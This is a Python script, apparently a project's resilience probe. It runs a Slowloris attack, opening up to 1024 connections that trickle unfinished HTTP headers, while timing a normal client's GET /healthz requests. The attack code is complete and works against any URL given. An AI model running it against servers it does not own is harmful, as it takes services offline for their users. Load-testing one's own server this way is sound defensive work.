#!/usr/bin/env python3
"""Slowloris probe: N connections that each send a request head one byte per second (and
reconnect when the server drops them), plus one well-behaved client that keeps asking
GET /healthz and records how long each request takes to be answered, retrying while the server
refuses or drops its connection. Used by scripts/slowloris-probe.sh; prints figures, asserts
nothing."""
import argparse
import asyncio
import statistics
import time
import urllib.parse


class Attack:
    def __init__(self, host, port, connections, interval):
        self.host, self.port = host, port
        self.connections, self.interval = connections, interval
        self.open = 0
        self.opened = 0
        self.answered = {}  # status line prefix -> count
        self.dropped = 0
        self.stopping = False

    async def one(self):
        while not self.stopping:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            self.open += 1
            self.opened += 1
            try:
                head = b"GET /healthz HTTP/1.1\r\nHost: probe\r\nX-Slow: "
                writer.write(head[:20])
                await writer.drain()
                index = 0
                while not self.stopping:
                    # Never finish the head: after the request line, one byte a second.
                    try:
                        data = await asyncio.wait_for(reader.read(64), self.interval)
                    except asyncio.TimeoutError:
                        writer.write(b"a")
                        await writer.drain()
                        index += 1
                        continue
                    if data:
                        key = data[:12].decode("latin-1")
                        self.answered[key] = self.answered.get(key, 0) + 1
                    else:
                        self.dropped += 1
                    break
            except OSError:
                self.dropped += 1
            finally:
                self.open -= 1
                writer.close()

    async def run(self):
        tasks = []
        for _ in range(self.connections):
            tasks.append(asyncio.create_task(self.one()))
            await asyncio.sleep(0)
        return tasks


async def served_latency(host, port, give_up):
    """Time until GET /healthz gets any HTTP response, retrying refused or dropped sockets."""
    started = time.monotonic()
    attempts = 0
    while time.monotonic() - started < give_up:
        attempts += 1
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.05)
            continue
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n")
            await writer.drain()
            remaining = give_up - (time.monotonic() - started)
            line = await asyncio.wait_for(reader.readline(), max(remaining, 0.1))
            if line.startswith(b"HTTP/1.1 "):
                return time.monotonic() - started, attempts, line[9:12].decode()
        except (OSError, asyncio.TimeoutError):
            pass
        finally:
            writer.close()
        await asyncio.sleep(0.05)
    return None, attempts, None


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("--connections", type=int, default=1024)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    parser.add_argument("--probe-every", type=float, default=2.0)
    parser.add_argument("--give-up", type=float, default=45.0)
    args = parser.parse_args()
    parts = urllib.parse.urlsplit(args.url)
    host, port = parts.hostname, parts.port

    baseline, _, _ = await served_latency(host, port, 10)
    print(f"baseline (no attack): served in {baseline * 1000:.1f} ms" if baseline else
          "baseline: not served")

    attack = Attack(host, port, args.connections, args.interval)
    tasks = await attack.run()
    for _ in range(100):
        if attack.opened >= args.connections:
            break
        await asyncio.sleep(0.1)
    await asyncio.sleep(2)
    print(f"attack: {attack.open} slow connections open")

    samples = []
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        latency, attempts, status = await served_latency(host, port, args.give_up)
        samples.append(latency)
        shown = f"{latency * 1000:.0f} ms ({status})" if latency is not None else "not served"
        print(f"  t+{args.seconds - (deadline - time.monotonic()):5.1f} s: {shown}, "
              f"{attempts} attempt(s), slow connections open: {attack.open}")
        await asyncio.sleep(args.probe_every)

    attack.stopping = True
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    served = sorted(s for s in samples if s is not None)
    failed = len(samples) - len(served)
    print(f"attack connections opened: {attack.opened}, answered: {attack.answered}, "
          f"dropped without answer: {attack.dropped}")
    if served:
        print(f"well-behaved client: {len(served)}/{len(samples)} served; median "
              f"{statistics.median(served) * 1000:.0f} ms, max {served[-1] * 1000:.0f} ms"
              f"; {failed} not served within {args.give_up:.0f} s")
    else:
        print(f"well-behaved client: 0/{len(samples)} served within {args.give_up:.0f} s")


asyncio.run(main())
